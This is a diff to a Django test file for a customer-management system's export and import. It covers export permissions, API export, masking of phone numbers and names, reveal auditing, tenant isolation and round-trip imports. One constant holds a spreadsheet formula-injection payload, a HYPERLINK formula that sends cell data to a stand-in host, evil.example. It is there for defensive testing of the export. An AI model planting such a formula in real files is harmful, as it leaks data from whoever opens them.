@@ -3,6 +3,7 @@
 import csv
 import io
 from datetime import UTC, datetime
+from types import SimpleNamespace
 
 import openpyxl
 import pytest
@@ -10,16 +11,23 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.utils import translation
 from django.utils.html import escape
+from rest_framework.test import APIClient
 
 from scrm.customers import exports
-from scrm.customers.exports import COLUMNS, MSG_XLSX_TOO_MANY, REVEALED_FIELDS
-from scrm.customers.imports import customer_import_upload, customer_import_validate
+from scrm.customers.exports import COLUMNS, EXPORT_PERMISSION, MSG_XLSX_TOO_MANY, REVEALED_FIELDS
+from scrm.customers.imports import (
+    customer_import_apply,
+    customer_import_confirm,
+    customer_import_upload,
+    customer_import_validate,
+)
 from scrm.customers.phones import mask_mobile, national_mobile
 from scrm.models import (
     Channel,
     ChannelIdentity,
     Customer,
     CustomerExport,
+    DataScope,
     PiiReveal,
     Region,
     Role,
@@ -28,12 +36,13 @@ from scrm.models import (
     TagGroup,
 )
 from scrm.platform.tenancy import tenant_scope
-from scrm.services import agent_profile_upsert
+from scrm.services import agent_profile_upsert, role_assign, role_save
 from tests.tenancy import assert_isolated, tenant_pair
 
 pytestmark = pytest.mark.django_db
 
 EXPORT_URL = "/customers/export/"
+API_EXPORT_URL = "/api/v1/customers/export/"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
@@ -85,17 +94,60 @@ def _client(user):
     return client
 
 
+def _api(user):
+    client = APIClient()
+    client.force_authenticate(user)
+    return client
+
+
+def response_from(content):
+    """A stand-in response for _xlsx() around bytes already read."""
+    return SimpleNamespace(status_code=200, streaming_content=[content])
+
+
 def _agent_sees_them(agent, customers):
     """The organization has a region: the agent serves it and owns the customers that have none."""
     agent_profile_upsert(user=agent, regions=[customers["zhang"].region])
     Customer.objects.filter(pk__in=[customers["evil"].pk, customers["plain"].pk]).update(owner=agent)
 
 
-def test_an_agent_gets_masked_personal_data_and_no_reveal_is_recorded(customers, agent):
+def _grant_export(user, ops_admin):
+    """A custom role that adds the export permission (and nothing that reveals personal data)."""
+    role = role_save(organization=ops_admin.organization, by=ops_admin, name="导出专员",
+                     permissions=["scrm.view_customer", EXPORT_PERMISSION], modules=["customers"],
+                     data_scope=DataScope.ORGANIZATION)
+    role_assign(role=role, user=user, by=ops_admin)
+
+
+def test_an_agent_may_not_export_in_bulk_on_the_page_nor_through_the_api(customers, agent):
     _agent_sees_them(agent, customers)
+    client = _client(agent)
+    assert client.get(EXPORT_URL).status_code == 403
+    assert client.get(EXPORT_URL, {"format": "csv"}).status_code == 403
+    assert client.post(EXPORT_URL, {"ids": [customers["zhang"].pk], "format": "csv"}).status_code == 403
+    assert _api(agent).get(API_EXPORT_URL).status_code == 403
+    assert not PiiReveal.objects.exists()
+
+
+def test_a_role_granting_export_gives_an_agent_masked_personal_data_and_no_reveal_is_recorded(
+        customers, agent, ops_admin):
+    _agent_sees_them(agent, customers)
+    _grant_export(agent, ops_admin)
     _titles, rows = _csv(_client(agent).get(EXPORT_URL, {"format": "csv"}))
     assert rows["张三"][1:3] == ["138****5678", "张**"]
+    _titles, rows = _csv(_api(agent).get(API_EXPORT_URL))
+    assert rows["张三"][1:3] == ["138****5678", "张**"]
     assert not PiiReveal.objects.exists()
+
+
+def test_the_api_export_is_the_page_export_with_the_list_filters(customers, ops_admin):
+    titles, rows = _csv(_api(ops_admin).get(API_EXPORT_URL, {"level": "vip"}))
+    assert titles == _zh(*[title for _name, title in COLUMNS])
+    assert set(rows) == {"张三"} and rows["张三"][1] == "13812345678"
+    assert PiiReveal.objects.filter(user=ops_admin).count() == 1
+    _titles, rows = _csv(_api(ops_admin).get(API_EXPORT_URL, {"level": "vip", "pii": "masked"}))
+    assert rows["张三"][1] == "138****5678"
+    assert PiiReveal.objects.filter(user=ops_admin).count() == 1
 
 
 def test_an_ops_admin_gets_full_personal_data_and_each_reveal_is_recorded(customers, ops_admin):
@@ -104,7 +156,7 @@ def test_an_ops_admin_gets_full_personal_data_and_each_reveal_is_recorded(custom
     assert titles == _zh(*(title for _name, title in COLUMNS))
     assert rows["张三"] == ["张三", "13812345678", "张三丰", "zhang@example.com", *_zh(Customer.Level.VIP.label),
                           "华东大区", "老客户", "", *_zh(Channel.WECHAT_OA.label), "2026-02-01 04:05",
-                          "2026-03-02 00:30"]
+                          "2026-03-02 00:30", "", "wechat_oa::o1"]
     # One reveal per exported customer that has a mobile or a real name (李四 has neither).
     reveals = PiiReveal.objects.order_by("customer_id")
     assert [(r.customer_id, r.user_id, r.fields) for r in reveals] == [
@@ -161,6 +213,7 @@ def test_a_selection_exports_exactly_the_chosen_customers(customers, ops_admin):
 
 def test_the_export_page_says_how_many_and_how(customers, ops_admin, agent):
     _agent_sees_them(agent, customers)
+    _grant_export(agent, ops_admin)
     page = _client(ops_admin).get(EXPORT_URL, {"level": "vip"}).content.decode()
     assert 'data-testid="export-reveal"' in page and "level=vip&amp;format=csv" in page
     page = _client(agent).get(EXPORT_URL).content.decode()
@@ -222,15 +275,60 @@ def test_a_full_export_imports_back_as_updates_of_the_same_customers(customers, 
     assert batch.preview[0]["region"] == "华东大区"
 
 
+def test_an_export_with_notes_and_identities_imports_back_whole(customers, ops_admin, scoped):
+    """Export → import into an organization that lost them: the same customers come back, notes and every channel
+    identity included."""
+    zhang = customers["zhang"]
+    Customer.objects.filter(pk=zhang.pk).update(notes="老客户，周末联系")
+    ChannelIdentity.objects.create(organization=scoped, customer=zhang, channel=Channel.YOUZAN, app_id="shop-1",
+                                   external_id="buyer-9")
+    response = _client(ops_admin).get(EXPORT_URL, {"format": "xlsx", "level": "vip"})
+    content = b"".join(response.streaming_content)
+    _titles, rows = _xlsx(response_from(content))
+    assert rows["张三"][-2].value == "老客户，周末联系"
+    assert rows["张三"][-1].value == "wechat_oa::o1; youzan:shop-1:buyer-9"
+
+    # Gone (as after a bad clean-up): the import creates them again from the file.
+    ChannelIdentity.objects.filter(customer=zhang).delete()
+    PiiReveal.objects.all().delete()
+    Customer.objects.filter(pk=zhang.pk).delete()
+    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
+                                   file=SimpleUploadedFile("customers.xlsx", content))
+    batch = customer_import_validate(batch_id=batch.pk)
+    assert (batch.new_count, batch.update_count, batch.error_count) == (1, 0, 0)
+    customer_import_confirm(batch=batch, user=ops_admin)
+    customer_import_apply(batch_id=batch.pk)
+    again = Customer.objects.get(display_name="张三")
+    assert (again.mobile, again.real_name, again.notes) == ("+8613812345678", "张三丰", "老客户，周末联系")
+    assert set(again.identities.values_list("channel", "app_id", "external_id")) == {
+        (Channel.WECHAT_OA, "", "o1"), (Channel.YOUZAN, "shop-1", "buyer-9")}
+
+
+def test_a_masked_export_is_refused_row_by_row_when_imported_back(customers, ops_admin):
+    """A masked file (138****5678, 张**) must never write its stars over, or into, real data."""
+    Customer.objects.filter(pk=customers["zhang"].pk).update(real_name="")
+    response = _client(ops_admin).get(EXPORT_URL, {"format": "csv", "level": "vip", "pii": "masked"})
+    content = b"".join(response.streaming_content)
+    assert b"138****5678" in content
+    batch = customer_import_upload(organization=ops_admin.organization, user=ops_admin,
+                                   file=SimpleUploadedFile("customers.csv", content))
+    batch = customer_import_validate(batch_id=batch.pk)
+    assert (batch.new_count, batch.update_count, batch.error_count) == (0, 0, 1)
+    error = batch.row_errors.get()
+    assert (error.code, error.params) == ("masked", {"value": "138****5678"})
+    assert Customer.objects.get(pk=customers["zhang"].pk).real_name == ""
+
+
 def test_agents_export_only_within_their_organization(db):
     def seed(tenant):
         Customer.objects.create(organization=tenant.organization, display_name=f"{tenant.marker} 张三",
                                 mobile="+8613812345678")
 
     a, b = tenant_pair(seed)
-    for role in (Role.OPS_ADMIN, Role.AGENT):
+    for role in (Role.OPS_ADMIN, Role.SUPERVISOR):
         assert_isolated(Client(), a, b, f"{EXPORT_URL}?format=csv", role=role)
         assert_isolated(Client(), a, b, f"{EXPORT_URL}?format=xlsx", role=role, expect_marker=False)
+        assert_isolated(APIClient(), a, b, API_EXPORT_URL, role=role)
     # Ids of another organization select nothing.
     with tenant_scope(b.organization):
         b_ids = list(Customer.objects.values_list("pk", flat=True))
